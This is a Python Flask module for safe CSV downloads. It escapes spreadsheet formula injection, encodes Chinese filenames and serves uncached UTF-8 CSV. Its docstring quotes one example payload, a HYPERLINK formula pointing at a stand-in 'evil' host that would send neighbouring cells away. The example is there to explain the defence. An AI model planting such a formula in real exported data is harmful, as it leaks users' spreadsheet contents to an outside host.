"""Files the users download: CSV cells that a spreadsheet cannot run as formulas, CSV in UTF-8 with a BOM (so
that Excel shows the Chinese), file names in Chinese, and responses kept out of caches.

A cell that starts with = + - @ (or a tab or carriage return, which Excel skips before such a character) is run
as a formula when the file is opened in a spreadsheet: `=HYPERLINK("http://evil/?"&A2,"点击")` typed as an
importer's name would turn into a link that sends the neighbouring cells away (OWASP "CSV Injection"). Such a
cell is written with a leading single quote, which spreadsheets show as text. A value that already starts with
quotes before such a character gets one more, so `restore_cell` gives back exactly what was stored and an
exported file imports unchanged.
"""
import re
from urllib.parse import quote

from flask import Response

_FORMULA = re.compile(r"'*[=+\-@\t\r]")


def safe_cell(value) -> str:
    """The text of one CSV cell, neutralised against formula injection."""
    text = "" if value is None else str(value)
    return "'" + text if _FORMULA.match(text) else text


def restore_cell(text: str) -> str:
    """The value `safe_cell` was given (for files exported here and imported again)."""
    return text[1:] if text.startswith("'") and _FORMULA.match(text[1:]) else text


def attachment(filename: str) -> str:
    """Content-Disposition for a download: a plain ASCII name as is; a Chinese one also as UTF-8 (RFC 6266),
    with an ASCII fallback for the rare client that reads only `filename`."""
    if filename.isascii():
        return f"attachment; filename={filename}"
    stem, dot, ext = filename.rpartition(".") if "." in filename else (filename, "", "")
    fallback = (stem.encode("ascii", "ignore").decode().strip("_ -") or "download") + dot + ext
    return f'attachment; filename="{fallback}"; filename*=UTF-8\'\'{quote(filename)}'


def csv_response(text: str, filename: str) -> Response:
    """A CSV download in UTF-8 with a BOM (Excel opens it with the Chinese intact) that no browser or proxy
    keeps. Every CSV export goes through here."""
    if not text.startswith("\ufeff"):
        text = "\ufeff" + text
    response = Response(text.encode("utf-8"), mimetype="text/csv")
    response.headers["Content-Disposition"] = attachment(filename)
    response.headers["Cache-Control"] = "no-store"
    return response
